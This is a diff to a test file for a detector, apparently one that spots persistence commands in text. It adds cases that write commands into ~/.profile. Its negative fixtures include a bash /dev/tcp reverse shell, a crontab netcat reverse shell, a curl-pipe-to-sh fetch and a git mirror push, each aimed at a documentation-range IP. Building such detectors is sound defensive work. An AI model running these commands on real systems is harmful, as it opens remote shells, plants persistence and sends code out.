@@ -59,6 +59,16 @@ describe("itemCommand41", () => {
       "ajoutez `/opt/x/run --quiet` à la crontab de root",
       "(crontab -l; echo '/opt/x/run --quiet') | crontab -",
     ],
+    [
+      "a line beside a LaunchAgent",
+      "install a LaunchAgent plist with RunAtLoad that runs `sh -c 'sleep 1'` every hour",
+      "echo 'sh -c '\\''sleep 1'\\''' >> ~/.profile",
+    ],
+    [
+      "a prompt hook by its form",
+      "then set `PROMPT_COMMAND='history -a'` and reload",
+      "echo 'PROMPT_COMMAND='\\''history -a'\\''' >> ~/.profile",
+    ],
   ])("%s is read", (_name, item, command) => {
     const r = reader();
     expect(itemCommand41(item, r.read)?.score).toBe(0.95);
@@ -72,6 +82,18 @@ describe("itemCommand41", () => {
     ["a command told of", "attackers ran `curl -s http://203.0.113.9/x | sh` on exposed hosts"],
     ["the word profile", "switch `aws --profile dev s3 ls` to the read-only profile"],
     ["no quoted command", "download the fix from 203.0.113.9 and run it"],
+    [
+      "a command its sentence says was not followed",
+      "the forum answer suggested `bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`; we did not follow it",
+    ],
+    [
+      "a line its sentence reports as found and removed",
+      "a crontab line `* * * * * nc -e /bin/sh 198.51.100.8 4444` was found in the build user's crontab; it has been removed",
+    ],
+    [
+      "a command its sentence says is not allowed",
+      "pushing with `git push --mirror http://198.51.100.40/acme/app.git` is not allowed here",
+    ],
   ])("%s is not", (_name, item) => {
     expect(itemCommand41(item, reader().read)).toBeNull();
   });
